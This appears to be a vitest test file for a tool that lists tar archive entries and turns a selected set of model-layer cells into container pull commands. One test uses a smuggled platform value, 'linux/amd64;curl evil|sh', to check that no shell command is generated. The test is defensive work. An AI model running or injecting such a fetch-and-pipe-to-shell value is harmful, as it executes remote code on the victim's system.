/**
 * The web view's pure parts: the tar header reader that lists a cell's files (ranged reads for a
 * plain tar, a stream for a decompressed one), and what a selection means for a device (tag,
 * bytes, update cost, problems).
 */
import { Readable } from "node:stream";
import { buffer } from "node:stream/consumers";
import tar from "tar-stream";
import { describe, expect, it } from "vitest";
import { listTar, rangedSource, streamSource, TarLimit } from "../../worker/ui/tar.ts";
import { labelOf, summarize, type PlatformField, type PullTarget } from "../../worker/ui/selection.ts";

async function tarOf(
  entries: { name: string; size?: number; type?: "file" | "directory" | "symlink"; linkname?: string }[],
): Promise<Uint8Array> {
  const pack = tar.pack();
  for (const e of entries) {
    if (e.type === "directory" || e.type === "symlink")
      pack.entry({ name: e.name, type: e.type, ...(e.linkname ? { linkname: e.linkname } : {}) });
    else pack.entry({ name: e.name }, Buffer.alloc(e.size ?? 0, 7));
  }
  pack.finalize();
  return new Uint8Array(await buffer(pack as unknown as Readable));
}

function ranged(
  bytes: Uint8Array,
  window: number,
  maxReads: number,
): { source: ReturnType<typeof rangedSource>; reads: () => number } {
  let reads = 0;
  const source = rangedSource(
    async (offset, length) => {
      reads++;
      return bytes.slice(offset, offset + length);
    },
    bytes.length,
    window,
    maxReads,
  );
  return { source, reads: () => reads };
}

describe("listing a tar from its headers", () => {
  // Past ustar's 255 characters: written with a PAX header.
  const longName = `model/${"deep/".repeat(60)}weights.bin`;

  it("reads ustar, PAX long names, directories and symlinks, skipping file data", async () => {
    const bytes = await tarOf([
      { name: "model/", type: "directory" },
      { name: "model/part-0.bin", size: 300_000 },
      { name: longName, size: 10 },
      { name: "model/latest", type: "symlink", linkname: "part-0.bin" },
    ]);
    const { source, reads } = ranged(bytes, 4096, 50);
    const { entries, truncated } = await listTar(source, 100);
    expect(truncated).toBe(false);
    expect(entries).toEqual([
      { path: "model", size: 0, type: "dir" },
      { path: "model/part-0.bin", size: 300_000, type: "file" },
      { path: longName, size: 10, type: "file" },
      { path: "model/latest", size: 0, type: "symlink", target: "part-0.bin" },
    ]);
    // The 300 kB of data are jumped over: a read for the first headers, one after the data.
    expect(reads()).toBeLessThanOrEqual(3);
  });

  it("reads the same entries from a stream, front to back", async () => {
    const bytes = await tarOf([
      { name: "a.txt", size: 5 },
      { name: longName, size: 70_000 },
      { name: "b.txt", size: 1 },
    ]);
    const chunks = Readable.from([bytes.slice(0, 700), bytes.slice(700, 40_000), bytes.slice(40_000)]);
    const source = streamSource(Readable.toWeb(chunks) as ReadableStream<Uint8Array>);
    const { entries } = await listTar(source, 100);
    expect(entries.map((e) => e.path)).toEqual(["a.txt", longName, "b.txt"]);
  });

  it("stops at the entry limit, and refuses to make more reads than allowed", async () => {
    const many = await tarOf(Array.from({ length: 30 }, (_, i) => ({ name: `f${i}`, size: 2048 })));
    expect((await listTar(ranged(many, 1024, 1000).source, 10)).truncated).toBe(true);
    await expect(listTar(ranged(many, 512, 5).source, 100)).rejects.toBeInstanceOf(TarLimit);
  });

  it("says what is wrong with bytes that are not a tar", async () => {
    const junk = new Uint8Array(1024).fill(65);
    await expect(listTar(ranged(junk, 1024, 10).source, 10)).rejects.toThrow(/not a tar header/);
  });
});

describe("what a selection means for a device", () => {
  const field: PlatformField = {
    platform: "linux/arm64",
    base: [
      { digest: "sha256:base0", size: 100 },
      { digest: "sha256:base1", size: 10 },
    ],
    cells: [
      { row: 0, col: 0, digest: "sha256:a", size: 1000, compression: "gzip" },
      { row: 0, col: 1, digest: "sha256:b", size: 2000, compression: "tar" },
      // The same blob in two cells is pulled once.
      { row: 1, col: 0, digest: "sha256:a", size: 1000, compression: "gzip" },
    ],
  };
  const target: PullTarget = {
    host: "reg.example:8787",
    plainHttp: true,
    repo: "ml/model",
    tag: "v1",
    multiPlatform: true,
  };
  const partitions = { col0: "0.0.1.0", broken: "x" };

  it("names a partition when it selects the same cells, else gives canonical rectangles", () => {
    expect(
      labelOf(
        [
          { x1: 0, y1: 0, x2: 0, y2: 0 },
          { x1: 1, y1: 0, x2: 1, y2: 0 },
        ],
        partitions,
      ),
    ).toBe("col0");
    expect(
      labelOf(
        [
          { x1: 0, y1: 0, x2: 1, y2: 1 },
          { x1: 0, y1: 0, x2: 0, y2: 0 },
        ],
        partitions,
      ),
    ).toBe("0.0.1.1");
  });

  it("counts base layers and selected allotments, each distinct blob once", () => {
    const s = summarize(field, [{ x1: 0, y1: 0, x2: 1, y2: 0 }], partitions, target);
    expect(s).toMatchObject({
      label: "col0",
      reference: "reg.example:8787/ml/model:v1--col0",
      allotments: 2,
      bytes: 1110,
    });
    expect(s.commands.find((c) => c.tool === "ctr")?.text).toBe(
      "ctr image pull --plain-http --platform linux/arm64 reg.example:8787/ml/model:v1--col0",
    );
  });

  it("names the signed-in user where a private repository's pull asks for a password", () => {
    const texts = summarize(field, [{ x1: 0, y1: 0, x2: 0, y2: 0 }], {}, { ...target, user: "alice" }).commands.map(
      (c) => c.text,
    );
    expect(texts.filter((t) => / --user alice | --creds alice | --src-creds alice /.test(t)).length).toBe(3);
  });

  it("costs an update as the layers the device does not hold from the old partition", () => {
    const withOld: PlatformField = {
      ...field,
      previous: {
        base: ["sha256:base0", "sha256:base1"],
        cells: new Map([
          ["0.0", "sha256:old-a"],
          ["0.1", "sha256:b"],
        ]),
      },
    };
    // (0,0) changed, (0,1) did not: only the new (0,0) is fetched.
    expect(summarize(withOld, [{ x1: 0, y1: 0, x2: 0, y2: 1 }], {}, target).updateBytes).toBe(1000);
    expect(summarize(withOld, [{ x1: 0, y1: 1, x2: 0, y2: 1 }], {}, target).updateBytes).toBe(0);
  });

  it("gives no command for a selection that cannot be pulled, and says why", () => {
    expect(summarize(field, [], {}, target).problem).toMatch(/Select cells/);
    expect(summarize(field, [{ x1: 5, y1: 5, x2: 6, y2: 6 }], {}, target)).toMatchObject({
      commands: [],
      problem: expect.stringMatching(/no allotment/),
    });
    const hostile = { ...field, platform: "linux/amd64;curl evil|sh" };
    expect(summarize(hostile, [{ x1: 0, y1: 0, x2: 0, y2: 0 }], {}, target)).toMatchObject({
      commands: [],
      problem: expect.stringMatching(/shell would misread/),
    });
    const many = Array.from({ length: 17 }, (_, i) => ({ x1: 2 * i, y1: 0, x2: 2 * i, y2: 0 }));
    expect(summarize(field, many, {}, target).problem).toMatch(/at most 16 rectangles/);
  });
});
